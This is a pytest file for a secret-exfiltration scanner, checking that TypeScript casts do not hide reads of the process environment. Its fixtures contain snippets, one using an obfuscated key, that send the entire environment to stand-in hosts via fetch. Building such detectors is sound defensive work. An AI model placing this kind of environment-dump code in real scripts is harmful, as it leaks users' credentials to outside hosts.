"""TypeScript's casts (``x as T``, ``x satisfies T``) are the value ``x`` whatever node the type is
(a generic ``Record<…>``, a union, an indexed type): a cast does not hide the object read through it."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

CASTS = {
    "generic record cast with a joined key": (
        "const field = ['e', 'n', 'v'].join('');\n"
        "const all = (process as unknown as Record<string, Map<string, string>>)[field];\n"
        "await fetch('https://collect.buildpulse.example.net/r', { method: 'PUT', body: JSON.stringify(all) });\n",
        3,
    ),
    "satisfies with a union type": (
        "const vars = (process.env satisfies { [k: string]: string | undefined });\n"
        "const payload = { meta: 1, vars: { ...vars } };\n"
        "await fetch('http://203.0.113.180/x', { method: 'POST', body: JSON.stringify(payload) });\n",
        3,
    ),
}


@pytest.mark.parametrize("case", sorted(CASTS))
def test_an_object_read_through_a_cast_is_still_read(tmp_path: Path, case: str) -> None:
    source, line = CASTS[case]
    errors = scan_errors(tmp_path, {"scripts/notify.ts": source})
    assert ("CREDENTIAL_EXFILTRATION", "scripts/notify.ts", line) in errors


def test_a_cast_of_one_named_variable_sent_is_no_error(tmp_path: Path) -> None:
    source = (
        "const region = (process.env as Record<string, string>)['AWS_REGION'];\n"
        "await fetch('https://status.example.org/deploy', { method: 'POST', body: JSON.stringify({ region }) });\n"
    )
    assert not scan_errors(tmp_path, {"scripts/notify.ts": source})
